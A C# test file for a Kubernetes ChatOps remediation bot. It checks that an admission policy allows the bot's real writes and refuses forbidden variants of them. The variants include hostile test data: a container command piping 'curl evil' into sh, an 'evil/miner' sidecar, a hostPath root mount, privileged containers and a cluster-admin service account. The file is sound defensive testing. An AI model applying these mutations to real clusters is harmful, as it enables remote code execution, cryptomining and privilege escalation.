using System.Text.Json;
using System.Text.Json.Nodes;
using ChatOpsPull.Approvals;
using ChatOpsPull.Chat.Cards;
using ChatOpsPull.Core.Approvals;
using ChatOpsPull.Core.Remediation;
using ChatOpsPull.Remediation;
using ChatOpsPull.Remediation.Actions;
using ChatOpsPull.Tests.Incidents;
using ChatOpsPull.Tests.Infrastructure;
using ChatOpsPull.Simulation.KubernetesApi;
using ChatOpsPull.Tests.Registry;
using ChatOpsPull.Tests.Remediation;
using ChatOpsPull.Tests.Storage;

namespace ChatOpsPull.Tests.Manifests;

/// <summary>
/// The ValidatingAdmissionPolicy in manifests/policy, evaluated by an independent CEL evaluator (npm @bufbuild/cel,
/// tests/admission-policy/evaluate.mjs) the way the API server evaluates it. The inputs are the bot's real writes: every
/// remediation action runs against the fake Kubernetes API (through approvals and the Hangfire job, as in production)
/// and <see cref="AdmissionRecorder"/> turns each write into the AdmissionRequest the API server would check. Each of
/// them passes; every forbidden variant of them (another secret type, an unlabelled secret, a changed command, an added
/// volume, a deleted secret…) is refused; nobody else's requests are touched.
/// </summary>
[Collection(RemediationParts.Name)]
public sealed class WritesPolicyTests(RegistryFixture registry)
{
    private static readonly SemaphoreSlim CaptureGate = new(1, 1);
    private static IReadOnlyList<AdmissionCase>? s_captured;

    [Fact]
    public async Task Every_write_the_remediation_actions_send_passes_the_policy()
    {
        var writes = await CapturedAsync();

        var kinds = writes.Select(w => $"{w.Operation} {w.Resource}").ToHashSet();
        Assert.Superset(
            new HashSet<string>
            {
                "UPDATE deployments", "UPDATE statefulsets", "UPDATE daemonsets", "UPDATE cronjobs", "UPDATE serviceaccounts",
                "CREATE secrets", "UPDATE secrets", "DELETE pods", "CREATE jobs", "CREATE leases", "UPDATE leases", "UPDATE validatingwebhookconfigurations",
            },
            kinds);
        var created = writes.Single(w => w is { Operation: "CREATE", Resource: "secrets" });
        Assert.Equal(RefreshCredentialsAction.ManagedByValue, created.NewObject!["metadata"]!["labels"]![RefreshCredentialsAction.ManagedByLabel]!.GetValue<string>());

        var results = await PolicyEvaluator.EvaluateAsync(writes);

        Assert.All(results, r => Assert.True(r.Matched && r.Allowed, $"{r.Name} was refused: {r.Failures}"));
        Assert.Equal(writes.Count, results.Count);
    }

    [Fact]
    public async Task The_policy_refuses_every_write_the_actions_do_not_send()
    {
        var writes = await CapturedAsync();
        var forbidden = Forbidden(writes).ToList();

        var results = await PolicyEvaluator.EvaluateAsync(forbidden);

        Assert.Equal(forbidden.Count, results.Count);
        Assert.All(results, r => Assert.True(r.Matched && !r.Allowed, $"{r.Name} was allowed"));
    }

    [Fact]
    public async Task Requests_of_anyone_but_the_bots_service_account_are_not_its_business()
    {
        var writes = await CapturedAsync();
        var others = Forbidden(writes)
            .Select(w => w.With("by another user: " + w.Name, (request, _, _) => request["userInfo"]!["username"] = "system:serviceaccount:kube-system:deployment-controller"))
            .ToList();

        var results = await PolicyEvaluator.EvaluateAsync(others);

        Assert.All(results, r => Assert.True(!r.Matched && r.Allowed, $"{r.Name} was judged by the bot's policy: {r.Failures}"));
    }

    /// <summary>Writes the bot's ServiceAccount could send with its RBAC, and its actions never do: each derived from a real one.</summary>
    private static IEnumerable<AdmissionCase> Forbidden(IReadOnlyList<AdmissionCase> writes)
    {
        AdmissionCase First(string operation, string resource, Func<AdmissionCase, bool>? where = null) =>
            writes.First(w => w.Operation == operation && w.Resource == resource && (where?.Invoke(w) ?? true));

        var create = First("CREATE", "secrets");
        yield return create.With("create an Opaque secret", (_, o, _) => o!["type"] = "Opaque");
        yield return create.With("create a service-account-token secret", (_, o, _) => o!["type"] = "kubernetes.io/service-account-token");
        yield return create.With("create a pull secret without the managed-by label", (_, o, _) => ((JsonObject)o!["metadata"]!).Remove("labels"));
        yield return create.With("create a pull secret labelled by someone else", (_, o, _) => o!["metadata"]!["labels"]![RefreshCredentialsAction.ManagedByLabel] = "helm");
        yield return create.With("create a pull secret with another key", (_, o, _) => o!["data"]!["token"] = "c2VjcmV0");

        var update = First("UPDATE", "secrets");
        yield return update.With("update a secret the bot does not manage", (_, o, old) =>
        {
            ((JsonObject)o!["metadata"]!).Remove("labels");
            ((JsonObject)old!["metadata"]!).Remove("labels");
        });
        yield return update.With("update a secret and drop its managed-by label", (_, o, _) => ((JsonObject)o!["metadata"]!).Remove("labels"));
        yield return update.With("update a secret's type", (_, o, _) => o!["type"] = "Opaque");
        yield return update.With("update a secret to immutable", (_, o, _) => o!["immutable"] = true);
        yield return update.With("update a secret's other annotations", (_, o, _) => o!["metadata"]!["annotations"]!["kubernetes.io/service-account.name"] = "default");
        yield return update.With("delete a secret", (request, _, _) => request["operation"] = "DELETE") with { NewObject = null };

        var setImage = First("UPDATE", "deployments", w => Containers(w.NewObject!)[0]!["image"]!.GetValue<string>() != Containers(w.OldObject!)[0]!["image"]!.GetValue<string>());
        yield return setImage.With("change a container's command", (_, o, _) => Containers(o!)[0]!["command"] = new JsonArray("sh", "-c", "curl evil | sh"));
        yield return setImage.With("change a container's env", (_, o, _) => Containers(o!)[0]!["env"] = new JsonArray(new JsonObject { ["name"] = "X", ["value"] = "y" }));
        yield return setImage.With("make a container privileged", (_, o, _) => Containers(o!)[0]!["securityContext"] = new JsonObject { ["privileged"] = true });
        yield return setImage.With("add a sidecar container", (_, o, _) => Containers(o!).Add(new JsonObject { ["name"] = "miner", ["image"] = "evil/miner" }));
        yield return setImage.With("add an init container", (_, o, _) => PodSpec(o!)["initContainers"] = new JsonArray(new JsonObject { ["name"] = "init", ["image"] = "evil/init" }));
        yield return setImage.With("add a hostPath volume", (_, o, _) => PodSpec(o!)["volumes"] = new JsonArray(new JsonObject { ["name"] = "root", ["hostPath"] = new JsonObject { ["path"] = "/" } }));
        yield return setImage.With("mount a volume", (_, o, _) => Containers(o!)[0]!["volumeMounts"] = new JsonArray(new JsonObject { ["name"] = "root", ["mountPath"] = "/host" }));
        yield return setImage.With("change the pod's service account", (_, o, _) => PodSpec(o!)["serviceAccountName"] = "cluster-admin");
        yield return setImage.With("use the host network", (_, o, _) => PodSpec(o!)["hostNetwork"] = true);
        yield return setImage.With("add an imagePullSecret entry with more than a name", (_, o, _) => PodSpec(o!)["imagePullSecrets"] = new JsonArray(new JsonObject { ["name"] = "x", ["namespace"] = "kube-system" }));
        yield return setImage.With("change the replicas", (_, o, _) => o!["spec"]!["replicas"] = 50);
        yield return setImage.With("change the strategy", (_, o, _) => o!["spec"]!["strategy"] = new JsonObject { ["type"] = "Recreate" });
        yield return setImage.With("label the deployment", (_, o, _) => o!["metadata"]!["labels"]!["team"] = "other");
        yield return setImage.With("annotate the deployment", (_, o, _) => o!["metadata"]!["annotations"] = new JsonObject { ["keel.sh/policy"] = "force" });
        yield return setImage.With("label the pod template", (_, o, _) => Template(o!)["metadata"]!["labels"]!["extra"] = "x");
        yield return setImage.With("annotate the pod template", (_, o, _) => Template(o!)["metadata"]!["annotations"] = new JsonObject { ["sidecar.istio.io/inject"] = "false" });
        yield return setImage.With("scale the deployment", (request, _, _) => request["subResource"] = "scale");

        var statefulSet = First("UPDATE", "statefulsets");
        yield return statefulSet.With("change a statefulset's volume claim templates", (_, o, _) => o!["spec"]!["volumeClaimTemplates"] = new JsonArray(new JsonObject { ["metadata"] = new JsonObject { ["name"] = "data" } }));
        yield return statefulSet.With("change a statefulset's command", (_, o, _) => Containers(o!)[0]!["args"] = new JsonArray("--debug"));

        var cronJob = First("UPDATE", "cronjobs");
        yield return cronJob.With("change a cronjob's schedule", (_, o, _) => o!["spec"]!["schedule"] = "* * * * *");
        yield return cronJob.With("resume a cronjob", (_, o, _) => o!["spec"]!["suspend"] = false);
        yield return cronJob.With("change a cronjob's job parallelism", (_, o, _) => o!["spec"]!["jobTemplate"]!["spec"]!["parallelism"] = 10);
        yield return cronJob.With("change a cronjob container's command", (_, o, _) => Containers(o!)[0]!["command"] = new JsonArray("sh"));

        var job = First("CREATE", "jobs");
        yield return job.With("create a job without kubectl's instantiate annotation", (_, o, _) => ((JsonObject)o!["metadata"]!).Remove("annotations"));
        yield return job.With("create a job owned by a deployment", (_, o, _) => o!["metadata"]!["ownerReferences"]![0]!["kind"] = "Deployment");
        yield return job.With("create a job with a second owner", (_, o, _) => ((JsonArray)o!["metadata"]!["ownerReferences"]!).Add(new JsonObject { ["apiVersion"] = "batch/v1", ["kind"] = "CronJob", ["name"] = "other", ["uid"] = "0000" }));
        yield return job.With("create a job without owner", (_, o, _) => ((JsonObject)o!["metadata"]!).Remove("ownerReferences"));
        yield return job.With("create a job named after another cronjob", (request, o, _) => o!["metadata"]!["name"] = "backup-manual-12345678");
        yield return job.With("create a job whose pod uses the host network", (_, o, _) => o!["spec"]!["template"]!["spec"]!["hostNetwork"] = true);
        yield return job.With("create a job whose pod mounts a hostPath", (_, o, _) => o!["spec"]!["template"]!["spec"]!["volumes"] = new JsonArray(new JsonObject { ["name"] = "root", ["hostPath"] = new JsonObject { ["path"] = "/" } }));
        yield return job.With("create a job with a privileged container", (_, o, _) => o!["spec"]!["template"]!["spec"]!["containers"]![0]!["securityContext"] = new JsonObject { ["privileged"] = true });
        yield return job.With("delete a job", (request, _, _) => request["operation"] = "DELETE") with { NewObject = null, OldObject = job.NewObject };
        yield return job.With("update a job", (request, _, _) => request["operation"] = "UPDATE") with { OldObject = job.NewObject };

        var account = First("UPDATE", "serviceaccounts");
        yield return account.With("turn on token automount", (_, o, _) => o!["automountServiceAccountToken"] = true);
        yield return account.With("drop an existing imagePullSecret", (_, o, old) => o!["imagePullSecrets"] = new JsonArray(((JsonArray)old!["imagePullSecrets"]!).Skip(1).Select(n => n!.DeepClone()).ToArray()));
        yield return account.With("add a mountable secret", (_, o, _) => o!["secrets"] = new JsonArray(new JsonObject { ["name"] = "db-password" }));
        yield return account.With("label a service account", (_, o, _) => o!["metadata"]!["labels"] = new JsonObject { ["x"] = "y" });

        var deletePod = First("DELETE", "pods");
        yield return deletePod.With("delete a pod that pulled its image", (_, _, old) =>
        {
            foreach (var status in (JsonArray)old!["status"]!["containerStatuses"]!)
            {
                status!["state"] = new JsonObject { ["running"] = new JsonObject { ["startedAt"] = "2026-12-01T10:00:00Z" } };
            }
        });
        yield return deletePod.With("delete a pod no controller owns", (_, _, old) => ((JsonObject)old!["metadata"]!).Remove("ownerReferences"));
        yield return deletePod.With("create a pod", (request, _, _) => request["operation"] = "CREATE") with { NewObject = deletePod.OldObject, OldObject = null };
        yield return deletePod.With("relabel a pod", (request, _, _) => request["operation"] = "UPDATE") with { NewObject = deletePod.OldObject, OldObject = deletePod.OldObject };
        yield return deletePod.With("evict a pod", (request, _, _) =>
        {
            request["operation"] = "CREATE";
            request["subResource"] = "eviction";
        }) with { NewObject = new JsonObject { ["apiVersion"] = "policy/v1", ["kind"] = "Eviction" }, OldObject = null };
        yield return deletePod.With("exec into a pod", (request, _, _) =>
        {
            request["operation"] = "CONNECT";
            request["subResource"] = "exec";
        }) with { NewObject = new JsonObject { ["kind"] = "PodExecOptions", ["command"] = new JsonArray("sh") }, OldObject = null };

        var lease = First("UPDATE", "leases");
        yield return lease.With("write a lease in another namespace", (request, o, _) =>
        {
            request["namespace"] = "kube-system";
            o!["metadata"]!["namespace"] = "kube-system";
        });

        var caBundle = First("UPDATE", "validatingwebhookconfigurations");
        yield return caBundle.With("make its webhook fail closed", (_, o, _) => o!["webhooks"]![0]!["failurePolicy"] = "Fail");
        yield return caBundle.With("point its webhook at another service", (_, o, _) => o!["webhooks"]![0]!["clientConfig"]!["service"]!["name"] = "evil");
        yield return caBundle.With("widen its webhook's rules", (_, o, _) => o!["webhooks"]![0]!["rules"]![0]!["resources"] = new JsonArray("*"));
        yield return caBundle.With("drop its namespace selector", (_, o, _) => ((JsonObject)o!["webhooks"]![0]!).Remove("namespaceSelector"));
        yield return caBundle.With("add a webhook", (_, o, _) => ((JsonArray)o!["webhooks"]!).Add(o["webhooks"]![0]!.DeepClone().AsObject().Also(w => w["name"] = "more.chatopspull.io")));
        yield return caBundle.With("label its webhook configuration", (_, o, _) => o!["metadata"]!["labels"] = new JsonObject { ["x"] = "y" });
        yield return caBundle.With("change another webhook configuration's caBundle", (request, o, old) =>
        {
            request["name"] = "istio-sidecar-injector";
            o!["metadata"]!["name"] = "istio-sidecar-injector";
            old!["metadata"]!["name"] = "istio-sidecar-injector";
        });
        yield return caBundle.With("delete its webhook configuration", (request, _, _) => request["operation"] = "DELETE") with { NewObject = null };

        var user = FakeKubernetesApi.BotUser;
        yield return new AdmissionCase("create a service account token", AdmissionCase.RequestFor("CREATE", user, string.Empty, "v1", "serviceaccounts", "token", "shop", "default", false), new JsonObject { ["kind"] = "TokenRequest" }, null);
        yield return new AdmissionCase("create a rolebinding", AdmissionCase.RequestFor("CREATE", user, "rbac.authorization.k8s.io", "v1", "rolebindings", null, "shop", "admin", false), new JsonObject { ["kind"] = "RoleBinding", ["metadata"] = new JsonObject { ["name"] = "admin" } }, null);
        yield return new AdmissionCase("patch a configmap", AdmissionCase.RequestFor("UPDATE", user, string.Empty, "v1", "configmaps", null, "shop", "app", false), new JsonObject { ["kind"] = "ConfigMap", ["metadata"] = new JsonObject { ["name"] = "app" }, ["data"] = new JsonObject { ["a"] = "b" } }, new JsonObject { ["kind"] = "ConfigMap", ["metadata"] = new JsonObject { ["name"] = "app" } });
        yield return new AdmissionCase("delete a deployment", AdmissionCase.RequestFor("DELETE", user, "apps", "v1", "deployments", null, "shop", "api", false), null, setImage.OldObject);
        yield return new AdmissionCase("change the admission policy", AdmissionCase.RequestFor("UPDATE", user, "admissionregistration.k8s.io", "v1", "validatingadmissionpolicybindings", null, null, "chatopspull-writes", false), new JsonObject { ["kind"] = "ValidatingAdmissionPolicyBinding" }, new JsonObject { ["kind"] = "ValidatingAdmissionPolicyBinding" });
    }

    private static JsonObject Template(JsonObject workload) =>
        (JsonObject)(workload["kind"]?.GetValue<string>() == "CronJob" ? workload["spec"]!["jobTemplate"]!["spec"]!["template"]! : workload["spec"]!["template"]!);

    private static JsonObject PodSpec(JsonObject workload) => (JsonObject)Template(workload)["spec"]!;

    private static JsonArray Containers(JsonObject workload) => (JsonArray)PodSpec(workload)["containers"]!;

    /// <summary>The bot's writes, captured once for the class: every action through the real approval flow, and leader election.</summary>
    private async Task<IReadOnlyList<AdmissionCase>> CapturedAsync()
    {
        await CaptureGate.WaitAsync();
        try
        {
            return s_captured ??= [.. await ActionWritesAsync(), .. await LeaseWritesAsync(), .. await CaBundleWritesAsync()];
        }
        finally
        {
            CaptureGate.Release();
        }
    }

    private async Task<IReadOnlyList<AdmissionCase>> ActionWritesAsync()
    {
        using var storage = TestStorage.Sqlite();
        await using var bed = await RemediationBed.StartAsync(storage, registry, new()
        {
            ["Remediation:CredentialSources:0:Registry"] = registry.Basic,
            ["Remediation:CredentialSources:0:Secret"] = "registry-creds",
            ["Remediation:RolloutDeadline"] = "00:00:02",
        });
        var recorder = new AdmissionRecorder(bed.Api);
        var missing = $"{registry.Anonymous}/team/app:1.4.3";
        var good = $"{registry.Anonymous}/team/app:1.4.2";
        var privateImage = $"{registry.Basic}/private/app:1.0";
        var source = RemediationFlowTests.Secret("registry-creds", registry.Basic, RegistryFixture.BasicUser, RegistryFixture.BasicPassword);
        source["metadata"]!["namespace"] = "chatopspull";
        bed.Api.Seed(source);
        bed.Api.Seed(RemediationFlowTests.Secret("regcred", registry.Basic, RegistryFixture.BasicUser, RegistryFixture.BasicPassword));
        bed.Api.Seed(RemediationFlowTests.ManagedByTheBot(RemediationFlowTests.Secret("pull-expired", registry.Basic, RegistryFixture.BasicUser, "expired-password-1")));
        bed.Api.Seed(new JsonObject
        {
            ["apiVersion"] = "v1",
            ["kind"] = "ServiceAccount",
            ["metadata"] = new JsonObject { ["name"] = "default", ["namespace"] = RemediationBed.Namespace },
            ["imagePullSecrets"] = new JsonArray(new JsonObject { ["name"] = "other-registry" }),
        });

        // Set tag (Deployment), then roll back another one, restart a third and retry its pods.
        bed.SeedFailingDeployment("settag", missing);
        await RunAsync(bed, await bed.OpenIncidentAsync("settag", missing, Facts.TagMissing(["1.4.2"])), RemediationKind.SetImageTag);
        await RunAsync(bed, await RollBackIncidentAsync(bed, good, missing), RemediationKind.RollBack);
        bed.SeedFailingDeployment("retry", good);
        await RunAsync(bed, await bed.OpenIncidentAsync("retry", good, Facts.PullableNow(), RemediationFlowTests.Backoff(good)), RemediationKind.DeleteBackoffPods);
        bed.SeedFailingDeployment("restart", good);
        await RunAsync(bed, await bed.OpenIncidentAsync("restart", good, Facts.PullableNow(), RemediationFlowTests.Backoff(good)), RemediationKind.RestartWorkload);

        // Pull secrets: attach to the ServiceAccount and to a pod template; refresh into a new secret and into one the bot manages.
        bed.SeedFailingDeployment("attach", privateImage);
        var refused = await bed.OpenIncidentAsync("attach", privateImage, Facts.CredentialsRefused(unattached: "regcred"));
        await RunAsync(bed, refused, RemediationKind.AttachPullSecretToServiceAccount);
        bed.SeedFailingDeployment("template", privateImage, replicas: 1);
        await RunAsync(bed, await bed.OpenIncidentAsync("template", privateImage, Facts.CredentialsRefused(unattached: "regcred")), RemediationKind.AttachPullSecretToWorkload);
        bed.SeedFailingDeployment("fresh", privateImage, replicas: 1);
        await RunAsync(bed, await bed.OpenIncidentAsync("fresh", privateImage, Facts.CredentialsRefused(unattached: null, credentialSource: true)), RemediationKind.RefreshCredentials);
        bed.SeedFailingDeployment("expired", privateImage, replicas: 1, pullSecret: "pull-expired");
        await RunAsync(bed, await bed.OpenIncidentAsync("expired", privateImage, Facts.CredentialsRefused(unattached: null, matching: "pull-expired", credentialSource: true)), RemediationKind.RefreshCredentials);

        // The other pod-template kinds, asked for on their own (as `retry` does).
        bed.Api.Seed(Workload("StatefulSet", "db", missing));
        await RunStandaloneAsync(bed, Plan(RemediationKind.SetImageTag, "StatefulSet", "db", ("container", "app"), ("image", good)));
        bed.Api.Seed(Workload("DaemonSet", "agent", privateImage));
        await RunStandaloneAsync(bed, Plan(RemediationKind.AttachPullSecretToWorkload, "DaemonSet", "agent", ("secret", "regcred")));
        bed.Api.Seed(Workload("CronJob", "nightly", missing));
        await RunStandaloneAsync(bed, Plan(RemediationKind.SetImageTag, "CronJob", "nightly", ("container", "app"), ("image", good)));
        bed.Api.Seed(Workload("CronJob", "hourly", good));
        await RunStandaloneAsync(bed, Plan(RemediationKind.RunCronJobNow, "CronJob", "hourly"));

        return recorder.Cases;
    }

    private static async Task<ChatOpsPull.Core.Incidents.Incident> RollBackIncidentAsync(RemediationBed bed, string good, string bad)
    {
        bed.Api.Seed(RemediationBed.Deployment("rollback", good, replicas: 1));
        bed.Api.MarkPodsReady(RemediationBed.Namespace, "app=rollback");
        bed.Api.Store.Patch(ResourceType.Of("deployments"), RemediationBed.Namespace, "rollback", d =>
        {
            d["spec"]!["template"]!["spec"]!["containers"]![0]!["image"] = bad;
            return d;
        });
        foreach (var pod in bed.PodsOf("rollback").Where(p => p["spec"]!["containers"]![0]!["image"]!.GetValue<string>() == bad))
        {
            bed.Api.SetContainerWaiting(RemediationBed.Namespace, ObjectStore.Name(pod), "app", "ImagePullBackOff", "Back-off pulling image");
        }

        return await bed.OpenIncidentAsync("rollback", bad, Facts.TagMissing([], (1, good)));
    }

    /// <summary>Asks for the incident's plan of <paramref name="kind"/>, has Bob approve it, and waits until the job applied it.</summary>
    private static async Task RunAsync(RemediationBed bed, ChatOpsPull.Core.Incidents.Incident incident, RemediationKind kind)
    {
        var plan = Facts.Plan(incident, kind);
        var asked = await bed.ClickAsync(People.Alice, CardVerb.Request, incident.Id, plan.Key);
        var pending = (await bed.Get<IApprovalQueries>().ListForIncidentAsync(incident.Id, CancellationToken.None))
            .SingleOrDefault(r => r.Plan.Key == plan.Key && r.Status == ApprovalStatus.Pending);
        Assert.True(pending is not null, $"{plan.Title} was not requested: {asked.Text}");
        await ApproveAndWaitAsync(bed, pending.Id);
    }

    private static async Task RunStandaloneAsync(RemediationBed bed, RemediationPlan plan)
    {
        var asked = await bed.Get<global::ChatOpsPull.Chat.Actions.IRemediationRequests>().RequestAsync(People.Alice, null, RemediationBed.Cluster, plan, CancellationToken.None);
        var pending = (await bed.Get<IApprovalQueries>().ListPendingAsync(RemediationBed.Namespace, CancellationToken.None)).SingleOrDefault(r => r.Plan.Key == plan.Key && r.Plan.WorkloadName == plan.WorkloadName);
        Assert.True(pending is not null, $"{plan.Title} was not requested: {asked.Text}");
        await ApproveAndWaitAsync(bed, pending.Id);
    }

    private static async Task ApproveAndWaitAsync(RemediationBed bed, string approvalId)
    {
        await bed.ClickAsync(People.Bob, CardVerb.Approve, approvalId);
        var run = await bed.WaitForRunAsync(approvalId, r => r.Run.Status != RunStatus.Queued && r.Run.Status != RunStatus.Running);
        Assert.True(run.Run.Status != RunStatus.Failed, $"the job failed: {run.Run.Detail}");
    }

    private static RemediationPlan Plan(RemediationKind kind, string workloadKind, string name, params (string Key, string Value)[] parameters) =>
        new(kind, RemediationBed.Namespace, workloadKind, name, $"{kind} {name}", "test plan", RemediationRisk.Medium, parameters.ToDictionary(p => p.Key, p => p.Value, StringComparer.Ordinal));

    /// <summary>A StatefulSet, DaemonSet or CronJob with one container "app", shaped as the API serves it.</summary>
    private static JsonObject Workload(string kind, string name, string image)
    {
        var podSpec = new JsonObject
        {
            ["containers"] = new JsonArray(new JsonObject { ["name"] = "app", ["image"] = image, ["imagePullPolicy"] = "IfNotPresent", ["resources"] = new JsonObject() }),
            ["restartPolicy"] = kind == "CronJob" ? "OnFailure" : "Always",
            ["terminationGracePeriodSeconds"] = 30,
            ["dnsPolicy"] = "ClusterFirst",
        };
        var template = new JsonObject { ["metadata"] = new JsonObject { ["labels"] = new JsonObject { ["app"] = name } }, ["spec"] = podSpec };
        var spec = kind == "CronJob"
            ? new JsonObject
            {
                ["schedule"] = "0 3 * * *",
                ["suspend"] = true,
                ["concurrencyPolicy"] = "Forbid",
                ["jobTemplate"] = new JsonObject { ["spec"] = new JsonObject { ["backoffLimit"] = 2, ["template"] = template } },
            }
            : new JsonObject { ["selector"] = new JsonObject { ["matchLabels"] = new JsonObject { ["app"] = name } }, ["template"] = template };
        if (kind == "StatefulSet")
        {
            spec["serviceName"] = name;
            spec["replicas"] = 1;
        }

        return new JsonObject
        {
            ["apiVersion"] = kind == "CronJob" ? "batch/v1" : "apps/v1",
            ["kind"] = kind,
            ["metadata"] = new JsonObject { ["name"] = name, ["namespace"] = RemediationBed.Namespace, ["labels"] = new JsonObject { ["app"] = name } },
            ["spec"] = spec,
        };
    }

    /// <summary>The admission overlay's self-managed CA: the bot puts its CA into its webhook configuration's caBundle.</summary>
    private async Task<IReadOnlyList<AdmissionCase>> CaBundleWritesAsync()
    {
        await using var api = await FakeKubernetesApi.StartAsync();
        var webhook = (await RenderedManifests.ObjectsAsync("manifests/overlays/admission")).Single(o => o.Kind == "ValidatingWebhookConfiguration").Json;
        api.Seed(webhook);
        var recorder = new AdmissionRecorder(api);
        await using var bot = await Prevention.AdmissionBed.StartAsync(registry, selfManaged: true, api: api);
        await Eventually.ValueAsync(
            () => Task.FromResult(recorder.Cases),
            cases => cases.Any(c => c.Resource == "validatingwebhookconfigurations"),
            "the bot to put its CA into the caBundle",
            TimeSpan.FromSeconds(30));
        return recorder.Cases;
    }

    /// <summary>Leader election as the bot does it: the Lease created, then renewed, in its own namespace.</summary>
    private static async Task<IReadOnlyList<AdmissionCase>> LeaseWritesAsync()
    {
        await using var api = await FakeKubernetesApi.StartAsync();
        api.Seed(new JsonObject { ["apiVersion"] = "v1", ["kind"] = "Namespace", ["metadata"] = new JsonObject { ["name"] = "chatopspull" } });
        var recorder = new AdmissionRecorder(api);
        var directory = Directory.CreateTempSubdirectory("chatopspull-lease-").FullName;
        try
        {
            var kubeconfig = api.WriteKubeconfig(Path.Combine(directory, "kube"), contextNamespace: "chatopspull");
            using var storage = TestStorage.Sqlite();
            await using var host = new BotTestHost(storage, new()
            {
                ["Kubernetes:KubeconfigPath"] = kubeconfig,
                ["Kubernetes:Lease:LeaseDuration"] = "00:00:02",
                ["Kubernetes:Lease:RenewDeadline"] = "00:00:01.500",
                ["Kubernetes:Lease:RetryPeriod"] = "00:00:00.200",
            });
            _ = host.Services;
            await Eventually.ValueAsync(
                () => Task.FromResult(recorder.Cases),
                cases => cases.Any(c => c is { Operation: "CREATE", Resource: "leases" }) && cases.Any(c => c is { Operation: "UPDATE", Resource: "leases" }),
                "the bot to take and renew its Lease",
                TimeSpan.FromSeconds(30));
            return recorder.Cases;
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }
}

/// <summary>What tests/admission-policy/evaluate.mjs says about one AdmissionRequest.</summary>
public sealed record PolicyResult(string Name, bool Matched, bool Allowed, string Failures);

/// <summary>Runs the independent evaluator (node, @bufbuild/cel) over the rendered remediate profile's policy.</summary>
public static class PolicyEvaluator
{
    public static async Task<IReadOnlyList<PolicyResult>> EvaluateAsync(IEnumerable<AdmissionCase> cases, string kustomization = "manifests")
    {
        var input = new JsonObject
        {
            ["manifests"] = await RenderedManifests.RenderAsync(kustomization),
            ["cases"] = new JsonArray(cases.Select(c => (JsonNode)c.ToJson()).ToArray()),
        };
        var file = Path.GetTempFileName();
        try
        {
            await File.WriteAllTextAsync(file, input.ToJsonString());
            var evaluator = RenderedManifests.Path("tests/admission-policy/evaluate.mjs");
            await using var node = ExternalProcess.Start("node", [evaluator, file], RenderedManifests.Path("tests/admission-policy"));
            var exit = await node.WaitForExitAsync(TimeSpan.FromMinutes(2));
            var lines = node.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries).Where(l => l.StartsWith('{')).ToList();
            Assert.True(exit == 0, $"the evaluator exited with {exit}:\n{node.Output}");
            return lines.Select(line =>
            {
                using var result = JsonDocument.Parse(line);
                var root = result.RootElement;
                return new PolicyResult(
                    root.GetProperty("name").GetString()!,
                    root.GetProperty("matched").GetBoolean(),
                    root.GetProperty("allowed").GetBoolean(),
                    string.Join(" | ", root.GetProperty("failures").EnumerateArray().Select(f => f.GetProperty("message").GetString())));
            }).ToList();
        }
        finally
        {
            File.Delete(file);
        }
    }
}

internal static class JsonObjectAlso
{
    public static JsonObject Also(this JsonObject node, Action<JsonObject> change)
    {
        change(node);
        return node;
    }
}
